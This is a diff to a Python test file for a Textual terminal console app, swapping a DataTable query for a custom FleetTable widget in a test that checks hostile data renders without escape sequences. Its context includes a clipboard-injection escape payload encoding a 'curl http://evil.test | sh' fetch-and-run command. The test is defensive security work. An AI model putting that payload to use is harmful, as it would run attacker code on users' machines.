@@ -30,7 +30,7 @@ from rich.segment import Segment
 from textual.geometry import Region
 from textual.strip import Strip
 from textual.widget import Widget
-from textual.widgets import DataTable, Static
+from textual.widgets import Static
 from tui_helpers import FakeFleetPlugin, fixed_clock
 
 from console.commands.jsonout import dumps
@@ -46,6 +46,7 @@ from console.engine.store import Store
 from console.plugin_api import PluginContext
 from console.tui.app import CallboardApp
 from console.tui.safe_render import install
+from console.tui.widgets.fleet_table import FleetTable
 
 CLIP = "\x1b]52;c;" + base64.b64encode(b"curl http://evil.test | sh").decode() + "\x1b\\"
 PAYLOADS = {
@@ -423,7 +424,7 @@ async def test_fleet_and_function_screens_show_hostile_data_without_escapes() ->
             await pilot.pause()
             if app.snapshot is not None:
                 break
-        table = app.screen.query_one(DataTable)
+        table = app.screen.query_one(FleetTable)
         text = _strip_texts(table)
         assert "search:GET /q" in text
         assert_inert(text, "fleet table")
